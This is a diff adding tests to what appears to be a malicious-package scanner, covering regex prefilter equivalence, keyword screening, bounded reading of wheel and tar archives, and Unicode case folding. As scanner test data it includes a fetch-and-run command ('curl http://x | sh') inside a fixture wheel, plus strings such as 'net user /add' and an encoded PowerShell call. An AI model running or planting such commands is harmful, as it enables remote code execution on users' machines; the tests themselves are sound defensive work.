@@ -3,13 +3,20 @@
 from __future__ import annotations
 
 import ast
+import gc
+import io
+import os
 import re
+import sys
+import tarfile
+import zipfile
 from pathlib import Path
 
 import pytest
 
 from outwork.analyzers.packages import data as tables
 from outwork.analyzers.packages import pyscan
+from outwork.analyzers.packages.package import collector_paused, read_archive
 
 FIXTURES = Path(__file__).resolve().parents[2] / "fixtures" / "rules"
 PATTERNS = {
@@ -44,6 +51,8 @@ def test_prefiltered_search_matches_plain_case_insensitive_search(name: str) -> 
     for word in words:
         for variant in (word, word.upper(), word.lower(), word.swapcase()):
             texts += [variant, f"x {variant}/y", f"~/{variant}\\z", "é " + variant]
+            texts += ["\u00e9" + variant.replace("s", "\u017f"), variant.replace("i", "\u0130")]
+            texts += ["\u00c9t\u00e9 " + variant + " \u2014 fin", "\u212a" + variant]
     texts += ["reg\tadd", "net  user /add", "CURL http://x", "PowerShell -enc " + "A" * 20]
     for text in texts:
         expected, got = plain_search(pattern, text), pattern.search(text)
@@ -103,3 +112,164 @@ def test_calls_no_defs_keeps_depth_first_order() -> None:
     tree = ast.parse(SOURCE)
     for root in ast.walk(tree):
         assert pyscan._calls_no_defs(root) == reference(root)
+
+
+def test_runtime_keyword_screen_matches_per_function_search() -> None:
+    def plain(source: str, fn: ast.FunctionDef | ast.AsyncFunctionDef) -> bool:
+        lines = source.splitlines()
+        text = "\n".join(lines[fn.lineno - 1 : fn.end_lineno or fn.lineno])
+        return not text.isascii() or any(k in text for k in pyscan._RUNTIME_KEYWORDS)
+
+    sources = [t for t in fixture_texts() if "def " in t]
+    sources.append(
+        "def a():\n    return 1\r\ndef b():\f    x = 2\n    return x\n"
+        "def c():\n    return 'é'\ndef d():\r    exec(x)\ndef e():\n    pass\u2028y = 1\n"
+        "def f():\n    return vars(x)\n"
+    )
+    checked = 0
+    for source in sources:
+        try:
+            tree = ast.parse(source)
+        except (SyntaxError, ValueError):
+            continue
+        scanner = pyscan.PythonScanner(source, "x.py", pyscan.Context.IMPORT)
+        for node in ast.walk(tree):
+            if isinstance(node, ast.FunctionDef | ast.AsyncFunctionDef):
+                assert scanner._worth(node) == plain(source, node), (source[:80], node.name)
+                checked += 1
+    assert checked > 20
+
+
+class CountingFile(io.RawIOBase):
+    """A file that counts the bytes read from it."""
+
+    def __init__(self, path: Path) -> None:
+        self._fh = path.open("rb")
+        self.read_bytes = 0
+
+    def readable(self) -> bool:
+        return True
+
+    def seekable(self) -> bool:
+        return True
+
+    def seek(self, offset: int, whence: int = 0) -> int:
+        return self._fh.seek(offset, whence)
+
+    def tell(self) -> int:
+        return self._fh.tell()
+
+    def readinto(self, buffer: bytearray | memoryview) -> int:  # type: ignore[override]
+        data = self._fh.read(len(buffer))
+        buffer[: len(data)] = data
+        self.read_bytes += len(data)
+        return len(data)
+
+    def close(self) -> None:
+        self._fh.close()
+        super().close()
+
+
+LARGE = 4 * 1024 * 1024
+
+
+def test_large_member_of_a_wheel_is_not_read_whole(tmp_path: Path) -> None:
+    wheel = tmp_path / "demo-1.0-py3-none-any.whl"
+    with zipfile.ZipFile(wheel, "w", zipfile.ZIP_DEFLATED) as zf:
+        zf.writestr("demo/__init__.py", "import os\n")
+        zf.writestr("demo/weights.bin", os.urandom(LARGE))
+        zf.writestr("demo-1.0.dist-info/METADATA", "Name: demo\nVersion: 1.0\n")
+    stream = CountingFile(wheel)
+    with stream:
+        files = read_archive(stream, wheel.name)
+    assert files is not None
+    assert files.texts["demo/__init__.py"] == "import os\n"
+    assert files.others["demo/weights.bin"][1] == 8192  # its head only
+    assert stream.read_bytes < LARGE // 8
+
+
+def test_large_member_of_a_tar_is_skipped_not_read(tmp_path: Path) -> None:
+    sdist = tmp_path / "demo-1.0.tar"
+    with tarfile.open(sdist, "w") as tf:
+        for name, data in (
+            ("demo-1.0/setup.py", b"from setuptools import setup\nsetup()\n"),
+            ("demo-1.0/data.bin", os.urandom(LARGE)),
+            ("demo-1.0/PKG-INFO", b"Name: demo\nVersion: 1.0\n"),
+        ):
+            info = tarfile.TarInfo(name)
+            info.size = len(data)
+            tf.addfile(info, io.BytesIO(data))
+    stream = CountingFile(sdist)
+    with stream:
+        files = read_archive(stream, sdist.name)
+    assert files is not None
+    assert set(files.texts) == {"demo-1.0/setup.py", "demo-1.0/PKG-INFO"}
+    assert stream.read_bytes < LARGE // 8
+
+
+def test_reading_from_a_file_gives_what_reading_the_bytes_gives(tmp_path: Path) -> None:
+    wheel = tmp_path / "demo-1.0-py3-none-any.whl"
+    with zipfile.ZipFile(wheel, "w", zipfile.ZIP_DEFLATED) as zf:
+        zf.writestr("demo/__init__.py", "import os\nos.system('curl http://x | sh')\n")
+        zf.writestr("demo/lib.so", b"\x7fELF" + bytes(9000))
+        zf.writestr("demo-1.0.dist-info/METADATA", "Name: demo\nVersion: 1.0\n")
+    with wheel.open("rb") as fh:
+        from_file = read_archive(fh, wheel.name)
+    from_bytes = read_archive(wheel.read_bytes(), wheel.name)
+    assert from_file is not None and from_bytes is not None
+    assert (from_file.texts, from_file.others) == (from_bytes.texts, from_bytes.others)
+
+
+def test_collector_pause_nests_and_restores() -> None:
+    assert gc.isenabled()
+    with collector_paused():
+        assert not gc.isenabled()
+        with collector_paused():
+            assert not gc.isenabled()
+        assert not gc.isenabled()
+    assert gc.isenabled()
+    gc.disable()
+    try:
+        with collector_paused():
+            pass
+        assert not gc.isenabled()  # left as it was found
+    finally:
+        gc.enable()
+
+
+def test_definitions_in_ast_walk_order() -> None:
+    sources = [SOURCE, *(t for t in fixture_texts() if "def " in t or "class " in t)]
+    for source in sources:
+        try:
+            tree = ast.parse(source)
+        except (SyntaxError, ValueError):
+            continue
+        expected = [n for n in ast.walk(tree) if isinstance(n, pyscan._DEFS)]
+        assert pyscan._definitions_breadth_first(tree) == expected
+
+
+def test_case_folds_to_ascii_covers_every_odd_character() -> None:
+    """Characters whose case-insensitive match or lower case would make the case-folded
+    search differ from the plain one: exactly those the fast path leaves out."""
+    letters, word, space, digit = (
+        re.compile("[a-z]", re.IGNORECASE).match,
+        re.compile(r"\w").match,
+        re.compile(r"\s").match,
+        re.compile(r"\d").match,
+    )
+    odd = []
+    for code in range(0x80, sys.maxunicode + 1):
+        c = chr(code)
+        low = c.lower()
+        if c == low and not letters(c):
+            continue  # no case: lower-casing leaves it as it is
+        if (
+            letters(c)
+            or len(low) != 1
+            or low.isascii()
+            or bool(word(c)) != bool(word(low))
+            or bool(space(c)) != bool(space(low))
+            or bool(digit(c)) != bool(digit(low))
+        ):
+            odd.append(c)
+    assert "".join(odd) == tables.CASE_FOLDS_TO_ASCII.pattern.strip("[]")
